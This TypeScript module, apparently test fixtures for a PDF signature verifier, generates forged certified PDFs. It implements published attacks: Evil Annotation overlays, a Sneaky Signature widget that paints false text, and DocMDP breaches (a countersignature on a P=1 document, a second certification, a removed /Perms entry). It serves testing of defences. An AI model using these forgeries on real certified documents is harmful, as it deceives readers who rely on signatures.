/**
 * Attacks on certified documents. Rohlmann, Mladenov, Mainka, Schwenk, "Breaking the Specification:
 * PDF Certification", IEEE S&P 2021 (and the 2021 vulnerability report "Attacks on PDF Certification";
 * summary at pdf-insecurity.org/signature/certification.html).
 *
 * What we learned. A certification (author) signature carries a DocMDP transform whose /P says which
 * later revisions are allowed: 1 none, 2 form filling and signing, 3 also annotations. Two attack
 * classes turn the allowed changes against the reader without any warning in most viewers:
 *  - Evil Annotation Attack (EAA): under P=3 (and, in viewers that check too little, under P=2) an
 *    annotation is "allowed", but a FreeText, Stamp or any annotation with an appearance stream can
 *    paint anything over the page: a white box and new text. The paper's countermeasure is to treat
 *    annotations that can change the visible content as content changes unless the author allowed
 *    them; ours: under P=2 any added annotation is `annotation-added`; under P=3 it is allowed by the
 *    author's own choice (Attest authors certify with P=2).
 *  - Sneaky Signature Attack (SSA): P=2 allows signing, so the attacker adds a *signature field* whose
 *    widget appearance paints the false text over the page, and signs it with any key: the visible
 *    change rides on an allowed signature. Countermeasure: a signature widget added after certification
 *    may be visible only in a field the author prepared (`visible-widget-added`).
 * The same paper lists the plain DocMDP breaches that viewers missed: a signature added to a P=1
 * document, a second certification signature, and the /Perms entry (the DocMDP link) changed.
 */
import type { Genuine } from './genuine';
import { FALSE_RECT, FALSE_TEXT, annotsOf, appearance, newSignatureField, refArray, rewritten, signRevision } from './forge';
import { appendUpdate, literal, mapDocument, ref, type ObjectDef } from './pdfWriter';
import { ALICE, BOB } from './genuine';

/** A new annotation on page 1 of `pdf`, its object built from its own number. */
function addAnnotation(pdf: Uint8Array, build: (num: number, next: number, page: number) => ObjectDef[]): Uint8Array {
  const map = mapDocument(pdf);
  const page = map.pageNums[0];
  if (page === undefined) throw new Error('no page 1');
  const num = map.next;
  const objects = build(num, num + 1, page);
  return appendUpdate(pdf, { objects: [...objects, rewritten(pdf, page, { Annots: refArray([...annotsOf(pdf, page), num]) })] });
}

const freeText = (num: number, page: number): ObjectDef => ({
  num,
  body: `<< /Type /Annot /Subtype /FreeText /Rect [${FALSE_RECT.join(' ')}] /Contents ${literal(FALSE_TEXT)} /DA (/Helv 13 Tf 0 g) /F 4 /P ${ref(page)} /IC [1 1 1] >>`,
});

/** EAA: a FreeText annotation saying the false finding, after certification with P=2. */
export function eaaFreeText(g: Genuine): Uint8Array {
  return addAnnotation(g.certified, (num, _next, page) => [freeText(num, page)]);
}

/** EAA: a Stamp annotation whose appearance stream paints a white box and the false finding (P=2). */
export function eaaStampAppearance(g: Genuine): Uint8Array {
  return addAnnotation(g.certified, (num, next, page) => [
    { num: next, body: appearance(FALSE_RECT, FALSE_TEXT) },
    { num, body: `<< /Type /Annot /Subtype /Stamp /Rect [${FALSE_RECT.join(' ')}] /Name /Approved /F 4 /P ${ref(page)} /AP << /N ${ref(next)} >> >>` },
  ]);
}

/** EAA under P=3: the same FreeText on a report the author certified allowing annotations. */
export async function eaaFreeTextP3(g: Genuine): Promise<Uint8Array> {
  return addAnnotation(await g.certify(g.unsigned, 3), (num, _next, page) => [freeText(num, page)]);
}

/** SSA: the forger adds a signature field on page 1 whose widget paints the false finding, and signs it. */
export function ssaVisibleWidget(g: Genuine): Promise<Uint8Array> {
  const pdf = g.certified;
  const page = mapDocument(pdf).pageNums[0] ?? 0;
  return signRevision(pdf, {
    identity: g.mallory,
    signingTime: g.times.mallory,
    name: ALICE,
    build: (sigNum, next) => ({
      objects: [{ num: next + 1, body: appearance(FALSE_RECT, FALSE_TEXT) }, ...newSignatureField(pdf, { sigNum, fieldNum: next, name: 'Signature2', pageNum: page, rect: FALSE_RECT, appearanceNum: next + 1 })],
    }),
  });
}

/** A DocMDP transform reference for a certification signature dictionary. */
const docMdp = (p: number): string => `/Reference [<< /Type /SigRef /TransformMethod /DocMDP /TransformParams << /Type /TransformParams /P ${String(p)} /V /1.2 >> >>]`;

/** Bob's approval signature, written by a tool that ignores DocMDP, on a report Alice certified with P=1. */
export async function docMdpP1Countersigned(g: Genuine): Promise<Uint8Array> {
  const pdf = await g.certify(g.unsigned, 1);
  const page = mapDocument(pdf).pageNums[0] ?? 0;
  return signRevision(pdf, {
    identity: g.bob,
    signingTime: g.times.bob,
    name: BOB,
    build: (sigNum, next) => ({ objects: newSignatureField(pdf, { sigNum, fieldNum: next, name: 'Signature2', pageNum: page }) }),
  });
}

/** A second certification signature (Bob's, with its own DocMDP and /Perms) on Alice's P=2 certified report. */
export function secondCertification(g: Genuine): Promise<Uint8Array> {
  const pdf = g.certified;
  const map = mapDocument(pdf);
  const page = map.pageNums[0] ?? 0;
  return signRevision(pdf, {
    identity: g.bob,
    signingTime: g.times.bob,
    name: BOB,
    sigExtra: docMdp(2),
    build: (sigNum, next) => ({
      objects: [...newSignatureField(pdf, { sigNum, fieldNum: next, name: 'Signature2', pageNum: page }), rewritten(pdf, map.root, { Perms: `<< /DocMDP ${ref(sigNum)} >>` })],
    }),
  });
}

/** The catalog's /Perms (the link to Alice's DocMDP) removed: the document no longer says it is certified. */
export function permsRemoved(g: Genuine): Uint8Array {
  const pdf = g.certified;
  return appendUpdate(pdf, { objects: [rewritten(pdf, mapDocument(pdf).root, { Perms: null })] });
}
